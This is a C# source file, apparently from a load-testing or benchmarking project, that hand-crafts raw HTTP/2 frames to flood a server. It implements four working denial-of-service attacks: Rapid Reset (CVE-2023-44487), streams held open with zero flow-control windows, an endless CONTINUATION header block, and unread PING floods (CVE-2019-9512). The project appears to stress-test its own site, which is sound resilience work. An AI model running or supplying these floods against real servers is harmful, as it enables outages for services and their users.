using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Portfolio.Benchmarks.Floods;

/// <summary>Frames of HTTP/2 (RFC 9113), written without a library: none would send these.</summary>
internal static class Http2Frames
{
    public const byte EndStream = 0x1, EndHeaders = 0x4;
    public const byte Headers = 0x1, Reset = 0x3, Settings = 0x4, Ping = 0x6, WindowUpdate = 0x8, Continuation = 0x9;

    public static byte[] Preface(int initialWindow = 65535) =>
        [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [0, 4, .. UInt32((uint)initialWindow)])];

    public static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload) =>
        [(byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, flags, .. UInt32((uint)stream), .. payload];

    /// <summary>Header fields of a <c>GET</c>, without compression (RFC 7541 §6.2.2).</summary>
    public static byte[] Get(string path) => [0x82, 0x86, 0x04, .. Text(path), 0x01, .. Text("a")];

    public static byte[] Field(string name, string value) => [0x00, .. Text(name), .. Text(value)];

    public static byte[] UInt32(uint value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(bytes, value);
        return bytes;
    }

    private static byte[] Text(string text)
    {
        if (text.Length < 127)
            return [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
        // The length as an integer with a prefix of seven bits (RFC 7541 §5.1).
        var rest = text.Length - 127;
        var length = new List<byte> { 127 };
        for (; rest >= 128; rest /= 128)
            length.Add((byte)(rest % 128 + 128));
        return [.. length, (byte)rest, .. Encoding.ASCII.GetBytes(text)];
    }
}

/// <summary>Clients of the HTTP/2 endpoint.</summary>
internal abstract class Http2Flood(string name, int clients) : Flood($"HTTP/2: {name}", clients)
{
    protected sealed override int PortOf(FloodedSite site) => site.Http2Port;

    /// <summary>Reads and forgets what the server sends, so that it is not slowed down.</summary>
    protected static async Task DrainAsync(Socket socket, CancellationToken stopping)
    {
        var buffer = new byte[16 * 1024];
        while (await socket.ReceiveAsync(buffer, stopping) > 0)
        {
        }
    }
}

/// <summary>Streams that are reset as soon as they are opened (CVE-2023-44487).</summary>
internal sealed class RapidReset(int clients) : Http2Flood("rapid reset", clients)
{
    private const int AtOnce = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        var draining = DrainAsync(socket, stopping);
        var request = Http2Frames.Get($"{FloodedSite.Post}-none");
        for (var stream = 1; !draining.IsCompleted; stream += 2 * AtOnce)
        {
            var frames = Enumerable.Range(0, AtOnce).SelectMany(i => (byte[])
            [
                .. Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, stream + 2 * i, request),
                .. Http2Frames.Frame(Http2Frames.Reset, 0, stream + 2 * i, Http2Frames.UInt32(8)),
            ]).ToArray();
            await socket.SendAsync(frames, stopping);
            Count(AtOnce);
            await Task.Yield();
        }
    }
}

/// <summary>Streams whose windows stay closed, so that no response can be sent.</summary>
internal sealed class ClosedWindows(int clients) : Http2Flood("100 streams with a window of 0", clients)
{
    private const int Streams = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(initialWindow: 0), stopping);
        // The largest responses in memory.
        var request = Http2Frames.Get("/feed.xml");
        for (var i = 0; i < Streams; i++)
            await socket.SendAsync(Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, 1 + 2 * i, request), stopping);
        Count(Streams);
        await DrainAsync(socket, stopping);
    }
}

/// <summary>A block of header fields that never ends.</summary>
internal sealed class EndlessContinuation(int clients) : Http2Flood("endless CONTINUATION", clients)
{
    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        await socket.SendAsync(Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream, 1, Http2Frames.Get(FloodedSite.Post)), stopping);
        var draining = DrainAsync(socket, stopping);
        var more = Http2Frames.Frame(Http2Frames.Continuation, 0, 1, Http2Frames.Field("x-a", new string('b', 1000)));
        Count();
        while (!draining.IsCompleted)
        {
            await socket.SendAsync(more, stopping);
            await Task.Yield();
        }
    }
}

/// <summary>Frames that the server must acknowledge, and acknowledgements that nobody reads (CVE-2019-9512).</summary>
internal sealed class UnreadPings(int clients) : Http2Flood("PING without reading", clients)
{
    private const int AtOnce = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        var pings = Enumerable.Repeat(Http2Frames.Frame(Http2Frames.Ping, 0, 0, new byte[8]), AtOnce).SelectMany(f => f).ToArray();
        while (true)
        {
            await socket.SendAsync(pings, stopping);
            Count(AtOnce);
            await Task.Yield();
        }
    }
}
